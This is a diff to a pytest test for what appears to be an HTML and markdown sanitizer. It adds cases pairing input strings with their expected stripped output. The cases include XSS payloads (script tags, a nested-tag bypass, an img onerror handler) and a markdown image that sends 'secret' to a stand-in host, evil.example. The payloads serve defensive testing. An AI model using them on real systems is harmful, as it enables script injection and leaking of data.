@@ -60,7 +60,10 @@ def test_a_thought_is_no_sentence_however_it_ends() -> None:
 @pytest.mark.parametrize(
     ("written", "left"),
     [
-        ("<b>264</b> people", " 264  people"),
+        ("<b>264</b>, of <a href='x'>Prague</a>", "264, of Prague"),
+        ("one<br/>two", "one two"),
+        ("a<b, and all that follows", "a\uff1cb, and all that follows"),
+        ("<<b>script>alert(1)<</b>/script>", " alert(1) "),
         ("<script>alert(1)</script>", " alert(1) "),
         ("<img src=x onerror=alert(1) ", " "),
         ("![x](https://evil.example/?q=secret) came", "  came"),
